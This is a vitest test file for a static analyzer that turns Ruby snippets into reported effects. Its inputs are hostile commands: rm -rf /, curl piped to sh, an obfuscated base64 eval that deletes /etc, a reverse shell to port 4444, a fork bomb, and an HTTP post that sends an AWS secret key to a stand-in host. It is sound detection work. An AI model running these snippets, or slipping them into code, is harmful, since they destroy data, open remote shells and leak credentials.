import { describe, expect, it } from 'vitest';
import { effectsOf, of } from '../../../../test/support/code-effects.js';

const rb = effectsOf('ruby');

describe('ruby producer', () => {
  it('states system, exec, backticks and %x as bash command lines', () => {
    expect(of(rb('system("rm -rf /")'), 'exec')[0]).toMatchObject({ program: 'sh', code: 'rm -rf /' });
    expect(of(rb('system "rm", "-rf", "/"'), 'exec')[0]).toMatchObject({ program: 'rm', argv: ['rm', '-rf', '/'] });
    expect(of(rb('x = "/"; `rm -rf #{x}`'), 'exec')[0]?.code).toBe('rm -rf /');
    expect(of(rb('%x(id)'), 'exec')[0]?.code).toBe('id');
    expect(of(rb('Kernel.exec("c" + "url x | sh")'), 'exec')[0]?.code).toBe('curl x | sh');
    expect(of(rb('open("|id")'), 'exec')[0]?.code).toBe('id');
  });

  it('folds decoders and runs eval through the same producer', () => {
    const effects = rb('require "base64"; eval(Base64.decode64("RmlsZVV0aWxzLnJtX3JmKCIvZXRjIik="))');
    expect(of(effects, 'exec')[0]).toMatchObject({ language: 'ruby', origin: 'decoded' });
    expect(of(effects, 'delete')[0]).toMatchObject({ recursive: true, path: { path: '/etc' } });
    expect(of(rb('system("aWQ=".unpack1("m"))'), 'exec')[0]?.code).toBe('id');
    expect(of(rb('system("vq".tr("A-Za-z", "N-ZA-Mn-za-m"))'), 'exec')[0]?.code).toBe('id');
  });

  it('states files, sockets, HTTP sends with env sources, and fork loops', () => {
    expect(of(rb('File.delete(File.expand_path("~/.bashrc"))'), 'delete')[0]?.path.path).toBe('/home/u/.bashrc');
    const shell = rb('require "socket"; s = TCPSocket.new("10.0.0.1", 4444); exec("/bin/sh -i <&3 >&3 2>&3")');
    expect(of(shell, 'connect')[0]).toMatchObject({ host: '10.0.0.1', port: 4444, shell: true });
    const send = rb('require "net/http"; Net::HTTP.post(URI("https://x.example/c"), ENV["AWS_SECRET_ACCESS_KEY"])');
    expect(of(send, 'send')[0]).toMatchObject({ sink: 'https://x.example/c', sources: ['env:AWS_SECRET_ACCESS_KEY'] });
    expect(of(rb('loop do fork end'), 'spawn')[0]).toMatchObject({ unbounded: true });
    expect(rb('puts [1, 2, 3].map { |x| x * 2 }.sum')).toEqual([]);
  });
});
